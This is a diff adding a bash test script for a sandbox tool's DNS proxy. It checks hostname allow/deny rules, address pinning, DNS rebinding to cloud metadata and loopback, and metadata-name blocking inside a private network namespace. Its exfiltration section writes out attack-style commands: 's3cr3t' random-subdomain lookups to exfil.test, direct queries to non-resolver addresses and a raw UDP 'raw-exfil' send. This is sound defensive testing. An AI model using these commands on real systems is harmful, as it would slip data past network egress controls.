@@ -1,0 +1,162 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# Variables are read inside t_check's eval'd conditions:
+# shellcheck disable=SC2034
+# dns.sh BUILD_DIR - hostname rules through cordon's DNS proxy, over IPv4 and
+# IPv6, in a private network namespace whose only resolver is dnsmasq
+# (tests/lib/netns.sh): getent, dig, curl, python requests, node fetch and
+# the pure-Go client by name (allowed works, denied never arrives); pinning
+# (a name's rule allows only the addresses the proxy gave out); DNS
+# rebinding to metadata and loopback; DNS exfiltration through random
+# subdomains (the upstream must never see them) and through UDP/TCP port 53
+# straight to a non-resolver address; metadata names; `dns allow` names
+# resolve but do not connect.
+# Registered DISABLED until the DNS proxy lands. Exit 77 (skip) unless root.
+. "$(dirname "$0")/netlib.sh"
+net_init "$1"
+
+WWW=$T_DIR/www
+mkdir -p "$WWW"
+echo hello-cordon >"$WWW/hello.txt"
+chmod -R a+rX "$WWW"
+for a in "$A4" "$A6"; do
+	netns_http_server "$a" 8080 "$WWW" || t_fail "http-server-$a"
+done
+for a in "$D4" "$D6"; do
+	netns_canary_tcp "$a" 8080 || t_fail "canary-$a-8080"
+	netns_canary_udp "$a" 53 || t_fail "canary-udp53-$a"
+	netns_canary_tcp "$a" 53 || t_fail "canary-tcp53-$a"
+done
+for a in 169.254.169.254 fd00:ec2::254; do
+	netns_canary_tcp "$a" 80 || t_fail "canary-meta-$a"
+done
+netns_canary_tcp 127.0.0.1 5432 || t_fail "canary-lo4"
+netns_canary_tcp ::1 5432 || t_fail "canary-lo6"
+netns_dnsmasq \
+	--host-record=web.test,$A4,$A6 \
+	--host-record=other.test,$D4,$D6 \
+	--host-record=resolveonly.test,$D4,$D6 \
+	--host-record=rebind.test,169.254.169.254,fd00:ec2::254 \
+	--host-record=lo.test,127.0.0.1,::1 \
+	--host-record=metadata.google.internal,$A4,$A6 \
+	--address=/exfil.test/$A4 || t_fail "dnsmasq"
+
+POL=$T_DIR/dns.cordon
+cat >"$POL" <<EOF
+zone dnsz extends fork-pr {
+	lift host
+	dns upstream $NETNS_DNS_V4:53
+	allow tcp web.test:8080
+	allow tcp rebind.test:80
+	allow tcp lo.test:5432
+	dns allow resolveonly.test
+}
+EOF
+chmod 644 "$POL"
+dz() { jrun -- "$CORDON" run --policy "$POL" --zone dnsz "$@"; }
+queries() { netns_dns_queries "$1" | wc -l; }
+CURL=(curl -sS --noproxy '*' --connect-timeout 3 -m 5)
+
+# ---- resolving: allowed names answer, others are NXDOMAIN without upstream --
+dz -- getent ahosts web.test >"$T_DIR/out" 2>&1
+t_check "getent-allowed-v4" 'grep -q "^$A4 " "$T_DIR/out"'
+t_check "getent-allowed-v6" 'grep -q "^$A6 " "$T_DIR/out"'
+dz -- getent ahosts other.test >"$T_DIR/out" 2>&1
+st=$?
+t_check "getent-denied-fails" '[ "$st" != 0 ] && ! grep -q "$D4\|$D6" "$T_DIR/out"'
+t_check "getent-denied-never-upstream" '[ "$(queries other.test)" = 0 ]'
+for t in A AAAA; do
+	dz -- dig +short +time=2 +tries=1 web.test "$t" >"$T_DIR/out" 2>&1
+	want=$A4
+	[ "$t" = AAAA ] && want=$A6
+	t_check "dig-allowed-$t" 'grep -qx "$want" "$T_DIR/out"'
+	dz -- dig +time=2 +tries=1 other.test "$t" >"$T_DIR/out" 2>&1
+	t_check "dig-denied-$t-nxdomain" 'grep -q "status: NXDOMAIN" "$T_DIR/out"'
+done
+# The resolver reached over IPv6 (dig @[2001:db8::53]).
+dz -- dig +short +time=2 +tries=1 @"$NETNS_DNS_V6" web.test AAAA >"$T_DIR/out" 2>&1
+t_check "dig-over-v6-resolver" 'grep -qx "$A6" "$T_DIR/out"'
+t_check "other.test-never-upstream" '[ "$(queries other.test)" = 0 ]'
+
+# ---- connecting by name, every client, v4 and v6 ------------------------------
+for fl in -4 -6; do
+	b=$(http_hits "$A${fl#-}" 8080)
+	dz -- "${CURL[@]}" "$fl" http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
+	t_check "curl$fl-by-name-allowed" 'grep -qx hello-cordon "$T_DIR/out"'
+	dz -- "${CURL[@]}" "$fl" http://WEB.Test.:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
+	t_check "curl$fl-by-name-case-and-dot" 'grep -qx hello-cordon "$T_DIR/out"'
+	dz -- "${CURL[@]}" "$fl" http://other.test:8080/ >"$T_DIR/out" 2>"$T_DIR/err"
+	st=$?
+	t_check "curl$fl-by-name-denied-fails" '[ "$st" != 0 ]'
+	# Pinning: the allowed name forced to another address by the client.
+	d=$D4
+	[ "$fl" = -6 ] && d="[$D6]"
+	dz -- "${CURL[@]}" "$fl" --resolve "web.test:8080:$d" \
+		http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
+	t_check "curl$fl-unpinned-address-denied" '! grep -q hello-cordon "$T_DIR/out"'
+done
+for c in wget requests node go; do
+	case $c in
+	wget) cmd=(wget -q -O - --no-proxy -T 5 -t 1) ;;
+	requests) cmd=(/usr/bin/python3 -c 'import sys, requests
+s = requests.Session(); s.trust_env = False
+r = s.get(sys.argv[1], timeout=5); r.raise_for_status(); sys.stdout.write(r.text)') ;;
+	node) cmd=(node -e 'fetch(process.argv[1], {signal: AbortSignal.timeout(5000)})
+  .then(r => r.text()).then(t => process.stdout.write(t))
+  .catch(e => { console.error(e.cause || e); process.exit(1); })') ;;
+	go) cmd=("$GOCLIENT") ;;
+	esac
+	dz -- "${cmd[@]}" http://web.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
+	t_check "$c-by-name-allowed" 'grep -qx hello-cordon "$T_DIR/out"'
+	dz -- "${cmd[@]}" http://other.test:8080/hello.txt >"$T_DIR/out" 2>"$T_DIR/err"
+	t_check "$c-by-name-denied" '! grep -q hello-cordon "$T_DIR/out"'
+done
+t_check "denied-by-name-nothing-arrived" '[ "$(hits "$D4" 8080)" = 0 ] && [ "$(hits "$D6" 8080)" = 0 ]'
+
+# ---- dns allow: resolves, never connects ----------------------------------------
+dz -- getent ahosts resolveonly.test >"$T_DIR/out" 2>&1
+t_check "dns-allow-resolves" 'grep -q "^$D4 " "$T_DIR/out" && grep -q "^$D6 " "$T_DIR/out"'
+for fl in -4 -6; do
+	dz -- "${CURL[@]}" "$fl" http://resolveonly.test:8080/ >"$T_DIR/out" 2>"$T_DIR/err"
+done
+t_check "dns-allow-not-connectable" '[ "$(hits "$D4" 8080)" = 0 ] && [ "$(hits "$D6" 8080)" = 0 ]'
+
+# ---- rebinding: an allowed name pointing at metadata or loopback ------------------
+for fl in -4 -6; do
+	# Either the proxy strips the address from the answer or the connect is
+	# denied; the verdict is the canaries' (below).
+	dz -- "${CURL[@]}" "$fl" http://rebind.test:80/ >"$T_DIR/out" 2>"$T_DIR/err"
+	st=$?
+	t_check "rebind$fl-metadata-fails" '[ "$st" != 0 ]'
+	dz -- "${CURL[@]}" "$fl" http://lo.test:5432/ >"$T_DIR/out" 2>"$T_DIR/err"
+	st=$?
+	t_check "rebind$fl-loopback-fails" '[ "$st" != 0 ]'
+done
+sleep 0.6
+for c in "169.254.169.254 80" "fd00:ec2::254 80" "127.0.0.1 5432" "::1 5432"; do
+	set -- $c
+	t_check "rebind-$1-nothing-arrived" '[ "$(hits "$1" "$2")" = 0 ]'
+done
+
+# ---- metadata names ------------------------------------------------------------------
+dz -- getent ahosts metadata.google.internal >"$T_DIR/out" 2>&1
+t_check "metadata-name-nxdomain" '! grep -q "$A4" "$T_DIR/out"'
+t_check "metadata-name-never-upstream" '[ "$(queries metadata.google.internal)" = 0 ]'
+
+# ---- exfiltration through names -------------------------------------------------------
+dz -- sh -c 'i=0; while [ $i -lt 20 ]; do
+	getent hosts "s3cr3t$i-$(date +%N).exfil.test" >/dev/null
+	dig +short +time=1 +tries=1 "chunk$i.exfil.test" TXT >/dev/null
+	i=$((i + 1)); done' >/dev/null 2>&1
+t_check "exfil-subdomains-never-upstream" '[ "$(netns_dns_queries | grep -c "exfil\.test")" = 0 ]'
+# ... and straight to a non-resolver, UDP and TCP, v4 and v6.
+for d in "$D4" "$D6"; do
+	dz -- dig +time=1 +tries=1 @"$d" leak.exfil.test >/dev/null 2>&1
+	dz -- dig +tcp +time=1 +tries=1 @"$d" leak.exfil.test >/dev/null 2>&1
+	dz -- "$NETATTACK" udp-send "$(bracket "$d"):53" "raw-exfil" >/dev/null 2>&1
+	sleep 0.6
+	t_check "exfil-direct-$d-nothing-arrived" '[ "$(hits "$d" 53)" = 0 ]'
+done
+t_check "exfil-direct-never-upstream" '[ "$(netns_dns_queries | grep -c "exfil\.test")" = 0 ]'
+
+t_done
